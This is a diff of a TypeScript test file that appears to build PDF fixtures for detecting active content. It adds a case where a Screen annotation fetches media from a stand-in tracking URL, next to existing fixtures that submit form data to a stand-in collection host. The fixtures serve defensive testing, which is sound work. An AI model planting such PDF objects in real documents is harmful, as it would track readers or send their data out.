@@ -82,7 +82,7 @@ const page = (extra = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 20
 const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A ${action} >>`;
 const stream = (dict: string, data: string) => `<< ${dict} /Length ${data.length} >>\nstream\n${data}\nendstream`;
 
-/** The ten kinds of active content, each the way a real attack file carries it. */
+/** The ten kinds of active content the issue names, and media, each the way a real attack file carries it. */
 const ACTIVE: Record<string, string[]> = {
   'document JavaScript': [
     '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >>',
@@ -126,6 +126,12 @@ const ACTIVE: Record<string, string[]> = {
     page('/Annots [4 0 R 5 0 R]'),
     link('<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >>'),
     link('<< /S /ImportData /F (data.fdf) >>'),
+  ],
+  'media fetched from a URL': [
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    PAGES,
+    page('/Annots [4 0 R]'),
+    '<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (https://track.example/a.mp4) >> >> >> >> >>',
   ],
 };
 
